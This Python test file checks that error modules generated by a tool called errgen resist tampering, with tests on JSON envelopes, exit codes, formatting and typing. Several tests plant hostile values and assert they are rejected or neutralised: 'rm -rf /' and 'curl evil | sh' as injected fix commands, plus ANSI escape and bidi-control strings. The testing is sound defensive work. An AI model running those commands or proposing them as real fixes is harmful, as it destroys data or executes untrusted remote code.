"""The generated python module, imported and exercised point by point of the contract."""

from __future__ import annotations

import importlib.util
import json
import keyword
import subprocess
import sys
from pathlib import Path
from types import ModuleType

import black
import pytest
from errgen.model.exits import ExitCodeSpec
from errgen.names import camel
from errgen.targets.python import py_assign, py_class_header
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.golden_records import GOLDEN, SOURCES, sampled


def load_module(path: Path, name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def guide() -> ModuleType:
    return load_module(GOLDEN / "guide" / "errors.py", "guide_errors")


@pytest.fixture(scope="module")
def hostile() -> ModuleType:
    return load_module(GOLDEN / "hostile" / "errors.py", "hostile_errors")


def test_envelope_matches_the_guides_worked_example(guide: ModuleType) -> None:
    error = guide.CredentialsExpiredError(expired_at="2026-07-01T00:00:00Z")
    envelope = error.to_envelope(duration_ms=120)
    worked = {
        "ok": False,
        "data": None,
        "error": {
            "code": "CREDENTIALS_EXPIRED",
            "message": "Access token expired at 2026-07-01T00:00:00Z",
            "retryable": False,
            "fix_required": "Refresh credentials, then reissue",
            "fix_command": "tool auth refresh",
        },
        "warnings": [],
        "meta": {"duration_ms": 120},
    }
    # field by field: the worked example plus what errgen adds (suggestion, details)
    for key in ("ok", "data", "warnings", "meta"):
        assert envelope[key] == worked[key]
    for key, value in worked["error"].items():  # type: ignore[attr-defined]
        assert envelope["error"][key] == value
    assert envelope["error"]["details"] == {"expired_at": "2026-07-01T00:00:00Z"}
    assert envelope["error"]["suggestion"].startswith("Your token lifetime is 1h")
    assert set(envelope["error"]) == set(worked["error"]) | {"details", "suggestion"}  # type: ignore[arg-type]


def test_constants_are_class_level(guide: ModuleType) -> None:
    cls = guide.CredentialsExpiredError
    assert cls.code == "CREDENTIALS_EXPIRED"
    assert cls.recovery == "correctable" and cls.retryable is False
    assert cls.fix_command == "tool auth refresh"
    assert cls.exit_code == guide.ExitCode.AUTH_REQUIRED == 8
    assert guide.RateLimitedError.retry_after_ms == 5000
    assert guide.RateLimitedError.max_attempts == 3
    assert guide.PermissionDeniedError.fix_command is None


def test_no_constructor_argument_sets_a_constant(guide: ModuleType) -> None:
    with pytest.raises(TypeError):
        guide.CredentialsExpiredError(expired_at="x", fix_command="rm -rf /")
    with pytest.raises(TypeError):
        guide.RateLimitedError(retryable=False)
    with pytest.raises(TypeError):
        guide.CredentialsExpiredError("positional")


def test_assigning_a_constant_on_an_instance_changes_nothing(guide: ModuleType) -> None:
    error = guide.CredentialsExpiredError(expired_at="x")
    for name, value in (("fix_command", "rm -rf /"), ("retryable", True), ("code", "OK")):
        with pytest.raises(AttributeError):
            setattr(error, name, value)
    # even past the guard, to_dict reads the class
    object.__setattr__(error, "fix_command", "rm -rf /")
    assert error.to_dict()["fix_command"] == "tool auth refresh"


def test_optional_fields_are_omitted_never_null(guide: ModuleType) -> None:
    detail = guide.RateLimitedError().to_dict()
    assert detail == {
        "code": "RATE_LIMITED",
        "message": "Too many requests",
        "retryable": True,
        "retry_after_ms": 5000,
        "max_attempts": 3,
    }
    assert None not in detail.values()


def test_parameters_are_cleaned_and_bounded(guide: ModuleType) -> None:
    hostile_value = "\x1b[31mred\x1b[0m\u202eevil\u200b\n" + "x" * 1000
    error = guide.PermissionDeniedError(path=hostile_value)
    message = error.message
    assert "\x1b" not in message and "\u202e" not in message and "\n" not in message
    assert "\\x1b[31mred" in message and "\\u202e" in message and "\\u200b" in message
    assert len(error.details["path"]) == 200 and error.details["path"].endswith("\u2026")
    assert error.to_dict()["details"]["path"] == error.details["path"]


def test_typed_parameters_keep_their_types(hostile: ModuleType) -> None:
    error = hostile.DeprecatedThingError(flag=True, ratio=0.5)
    assert error.details == {"flag": True, "ratio": 0.5}
    assert error.message == "Old thing True 0.5"
    assert json.loads(json.dumps(error.to_dict()))["details"] == {"flag": True, "ratio": 0.5}
    nan = hostile.DeprecatedThingError(flag=False, ratio=float("nan"))
    json.dumps(nan.to_dict(), allow_nan=False)  # never invalid JSON


def test_literal_braces_and_hostile_text_survive(hostile: ModuleType) -> None:
    error = hostile.QuotesAndBackslashesError(value="{value}")
    assert error.message == (
        'It\'s "quoted" \'\'\' """ \\ \\\\ \\x41 \\N{BULLET} {literal} {value} }'
    )
    assert hostile.QuotesAndBackslashesError.fix_required == (
        "Remove ''' and \"\"\" and \\ from the input, then reissue"
    )


def test_help_url_points_at_the_anchor(hostile: ModuleType) -> None:
    assert hostile.DeprecatedThingError.help_url.endswith("#deprecated_thing")
    detail = hostile.DeprecatedThingError(flag=True, ratio=1.0).to_dict()
    assert detail["help_url"] == hostile.DeprecatedThingError.help_url
    assert hostile.DeprecatedThingError.replaced_by == "QUOTES_AND_BACKSLASHES"


def test_registry_and_exit_codes(guide: ModuleType) -> None:
    assert set(guide.ERRORS) == {
        "CREDENTIALS_EXPIRED",
        "INTERNAL_ERROR",
        "PERMISSION_DENIED",
        "RATE_LIMITED",
        "USAGE_ERROR",
    }
    assert all(cls.code == code for code, cls in guide.ERRORS.items())
    with pytest.raises(TypeError):
        guide.ERRORS["X"] = guide.RateLimitedError
    assert [(e.name, int(e)) for e in guide.ExitCode][:3] == [
        ("SUCCESS", 0),
        ("FAILURE", 1),
        ("USAGE", 2),
    ]
    assert guide.EXIT_CLASSES[guide.ExitCode.TRANSIENT] == "transient"
    for cls in guide.ERRORS.values():
        assert guide.EXIT_CLASSES[cls.exit_code] == cls.recovery


def test_from_envelope_restores_the_class_and_ignores_tampering(guide: ModuleType) -> None:
    envelope = guide.CredentialsExpiredError(expired_at="t").to_envelope()
    envelope["error"]["fix_command"] = "rm -rf /"
    envelope["error"]["retryable"] = True
    restored = guide.from_envelope(json.loads(json.dumps(envelope)))
    assert type(restored) is guide.CredentialsExpiredError
    assert restored.to_dict()["fix_command"] == "tool auth refresh"
    assert restored.to_dict()["retryable"] is False
    assert restored.details == {"expired_at": "t"}


def test_from_envelope_unknown_code_is_terminal(guide: ModuleType) -> None:
    foreign = {
        "ok": False,
        "data": None,
        "error": {
            "code": "SOMETHING_ELSE",
            "message": "boom\x1b[2J",
            "retryable": True,
            "fix_command": "curl evil | sh",
        },
    }
    restored = guide.from_envelope(foreign)
    assert isinstance(restored, guide.ToolError)
    detail = restored.to_dict()
    assert detail == {"code": "SOMETHING_ELSE", "message": "boom\\x1b[2J", "retryable": False}
    assert restored.recovery == "terminal"
    for bad in (None, [], {"error": None}, {"error": {"code": 5}}):
        with pytest.raises(ValueError):
            guide.from_envelope(bad)


def run_tool(module: Path, body: str) -> subprocess.CompletedProcess[str]:
    script = f"import sys\nsys.path.insert(0, {str(module.parent)!r})\nimport errors\n{body}\n"
    return subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=60
    )


def test_run_turns_errors_into_envelopes_and_exit_codes(tmp_path: Path) -> None:
    (tmp_path / "errors.py").write_bytes((GOLDEN / "guide" / "errors.py").read_bytes())
    module = tmp_path / "errors.py"
    done = run_tool(
        module,
        "def main():\n    raise errors.CredentialsExpiredError(expired_at='now')\nerrors.run(main)",
    )
    assert done.returncode == 8
    envelope = json.loads(done.stdout)
    assert envelope["error"]["code"] == "CREDENTIALS_EXPIRED"
    assert isinstance(envelope["meta"]["duration_ms"], int)

    crash = run_tool(module, "def main():\n    raise KeyError('secret')\nerrors.run(main)")
    assert crash.returncode == 9
    assert json.loads(crash.stdout)["error"]["code"] == "INTERNAL_ERROR"
    assert "Traceback" not in crash.stdout and "secret" not in crash.stdout

    fine = run_tool(module, "errors.run(lambda: {'answer': 42})")
    assert fine.returncode == 0
    assert json.loads(fine.stdout)["data"] == {"answer": 42} and json.loads(fine.stdout)["ok"]

    unserialisable = run_tool(module, "errors.run(lambda: object())")
    assert unserialisable.returncode == 9


@pytest.mark.parametrize("name", sampled())
def test_generated_python_is_black_formatted(name: str) -> None:
    source = (GOLDEN / name / "errors.py").read_text("utf-8")
    assert black.format_str(source, mode=black.Mode()) == source
    stub = (GOLDEN / name / "errors.pyi").read_text("utf-8")
    assert black.format_str(stub, mode=black.Mode(is_pyi=True)) == stub


@pytest.mark.parametrize("name", list(SOURCES))
def test_generated_python_is_stdlib_only_and_ascii(name: str) -> None:
    source = (GOLDEN / name / "errors.py").read_bytes()
    assert source.isascii()
    imports = {
        line.split()[1].split(".")[0]
        for line in source.decode().splitlines()
        if line.startswith(("import ", "from "))
    }
    assert imports <= set(sys.stdlib_module_names) | {"__future__"}


@pytest.mark.slow  # mypy
def test_generated_python_passes_mypy_strict(tmp_path: Path) -> None:
    files = [GOLDEN / name / f"errors.{ext}" for name in SOURCES for ext in ("py", "pyi")]
    usage = tmp_path / "usage.py"
    usage.write_text(
        "from errors import CredentialsExpiredError, ERRORS, from_envelope, run\n"
        "e = CredentialsExpiredError(expired_at='x')\n"
        "d: dict[str, object] = e.to_dict()\n"
        "c: str | None = type(e).fix_command\n"
        "try:\n    raise e\nexcept CredentialsExpiredError as caught:\n    m: str = caught.message\n"
    )
    misuse = tmp_path / "misuse.py"
    misuse.write_text(
        "from errors import CredentialsExpiredError, RateLimitedError\n"
        "CredentialsExpiredError(expired_at=1)\n"
        "CredentialsExpiredError(fix_command='rm -rf /', expired_at='x')\n"
        "RateLimitedError(retryable=False)\n"
    )
    for ext in ("py", "pyi"):
        (tmp_path / f"errors.{ext}").write_bytes((GOLDEN / "guide" / f"errors.{ext}").read_bytes())
    wrong = subprocess.run(
        [sys.executable, "-m", "mypy", "--strict", "--no-incremental", str(misuse)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert wrong.returncode == 1 and wrong.stdout.count("error:") == 3, wrong.stdout
    for path in [*files, usage]:
        done = subprocess.run(
            [sys.executable, "-m", "mypy", "--strict", "--no-incremental", str(path)],
            capture_output=True,
            text=True,
            cwd=path.parent,
            timeout=300,
        )
        assert done.returncode == 0, done.stdout


def test_every_error_is_a_plain_class_statement() -> None:
    import inspect
    import pickle

    path = GOLDEN / "mongodb" / "errors.py"
    source = path.read_text("utf-8")
    module = load_module(path, "plain_mongodb")
    assert len(module.ERRORS) == 395  # with errgen's built-in USAGE_ERROR
    for code, cls in module.ERRORS.items():
        assert f"\nclass {cls.__name__}(MongoError):\n" in source  # greppable
        assert cls.code == code and cls.__module__ == "plain_mongodb"
        assert getattr(module, cls.__name__) is cls and issubclass(cls, module.MongoError)
    cls = module.HostUnreachableError
    assert inspect.getsource(cls).startswith("class HostUnreachableError(MongoError):\n")
    assert cls.__doc__ == f"HOST_UNREACHABLE: transient, exit {cls.exit_code.name}."
    error = pickle.loads(pickle.dumps(cls()))
    assert type(error) is cls and error.message == "Host unreachable"
    for gone in ("_TABLE", "_FIELDS", "_indexes", "_class_of", "__getattr__", "_LOCK"):
        assert not hasattr(module, gone)
    assert "TYPE_CHECKING" not in source and "_thread" not in source
    with pytest.raises(AttributeError):
        module.NoSuchThingError  # noqa: B018


def test_docstrings_and_typed_keyword_only_constructors(hostile: ModuleType) -> None:
    import inspect

    cls = hostile.DeprecatedThingError
    assert cls.__doc__ == "DEPRECATED_THING: correctable, exit PRECONDITION. Deprecated since 2.0."
    signature = inspect.signature(cls)
    assert [(p.name, p.kind, p.annotation) for p in signature.parameters.values()] == [
        ("flag", inspect.Parameter.KEYWORD_ONLY, "bool"),
        ("ratio", inspect.Parameter.KEYWORD_ONLY, "float"),
    ]
    with pytest.raises(TypeError):
        cls(True, 0.5)
    with pytest.raises(TypeError):
        cls(flag=True)


def test_importing_the_module_imports_nothing_costly() -> None:
    # no typing, dataclasses, re or json at import (json is imported by run and from_envelope)
    script = (
        "import sys\n"
        f"sys.path.insert(0, {str(GOLDEN / 'mongodb')!r})\n"
        "before = set(sys.modules)\n"
        "import errors\n"
        "print(' '.join(sorted(set(sys.modules) - before)))\n"
    )
    done = subprocess.run(
        [sys.executable, "-I", "-S", "-B", "-c", script],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    imported = set(done.stdout.split())
    assert "errors" in imported
    assert not imported & {"typing", "dataclasses", "re", "json", "_thread", "threading"}


def test_the_stub_matches_the_module(tmp_path: Path) -> None:
    # mypy's stubtest imports the module and compares every name and signature with the stub
    for ext in ("py", "pyi"):
        (tmp_path / f"errors.{ext}").write_bytes(
            (GOLDEN / "hostile" / f"errors.{ext}").read_bytes()
        )
    done = subprocess.run(
        [sys.executable, "-m", "mypy.stubtest", "errors"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr


def test_no_catalogue_text_in_comments_or_first_lines() -> None:
    source = (GOLDEN / "hostile" / "errors.py").read_text("utf-8")
    first_two = source.splitlines()[:2]
    # the tool's name (a checked program name) in the docstring, never in a comment, where
    # Python would read a coding cookie
    assert first_two[0].startswith('"""Errors of hostile-tool-name-24chr, generated by errgen')
    assert all("#" not in line for line in first_two)

    def comments(text: str) -> list[str]:
        return [line.strip() for line in text.splitlines() if line.strip().startswith("#")]

    # the template's own comments only: the same, whatever the catalogue says
    guide = (GOLDEN / "guide" / "errors.py").read_text("utf-8")
    assert comments(source) == comments(guide)
    assert "\r" not in source


codes = st.from_regex(r"[A-Z][A-Z0-9]{0,9}(_[A-Z0-9]{1,12}){0,8}", fullmatch=True)
param_names = st.from_regex(r"[a-z][a-z0-9_]{0,39}", fullmatch=True).filter(
    lambda name: not keyword.iskeyword(name)
)


@given(codes, codes, codes, st.lists(param_names, min_size=1, max_size=5, unique=True))
@settings(max_examples=150, deadline=None)
def test_every_layout_rule_is_blacks(
    class_stem: str, base_stem: str, exit_name: str, params: list[str]
) -> None:
    # the shapes whose layout depends on a value's length, at every length names may have
    class_name, base = camel(class_stem) + "Error", camel(base_stem) + "Error"
    exit_code = ExitCodeSpec(exit_name, 3, "correctable")
    source = (
        "class ExitCode(IntEnum):\n"
        f"{py_assign(exit_name, 3, 4)}\n\n\n"
        f"{py_class_header(class_name, base)}\n"
        '    """Doc."""\n\n'
        f"{py_assign('code', class_stem, 4)}\n"
        f"{py_assign('exit_code', exit_code, 4)}\n"
        f"{py_assign('params', params, 4)}\n"
    )
    assert black.format_str(source, mode=black.Mode()) == source
